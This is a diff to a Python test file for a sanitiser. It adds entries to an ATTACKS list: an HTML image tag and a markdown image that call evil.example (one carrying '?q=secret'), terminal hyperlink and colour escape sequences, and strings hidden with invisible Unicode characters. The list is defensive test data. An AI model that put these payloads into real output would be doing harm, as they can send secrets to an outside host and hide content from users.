@@ -7,8 +7,8 @@ from typing import Any
 import orjson
 import pytest
 
-from shared.operations.untrusted import clean
 from shared.stores.protocols import Write
+from shared.untrusted import clean
 from tests.spec.conftest import Billy
 
 pytestmark = pytest.mark.slow
@@ -206,6 +206,11 @@ ATTACKS = [
     "tag\U000e0041\U000e0042",
     "ｆｕｌｌｗｉｄｔｈ",
     "![x](https://evil.example/?q=secret)",
+    "！\u200b［x](https://evil.example)",
+    "<IMG src=https://evil.example>",
+    "a\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
+    "\x9b31mred",
+    "in\ufe0fv\u034fi\u115fs\u3164i\uffa0b\u180el\u2800e\U000e0100",
     "x" * 10_000,
 ]
 
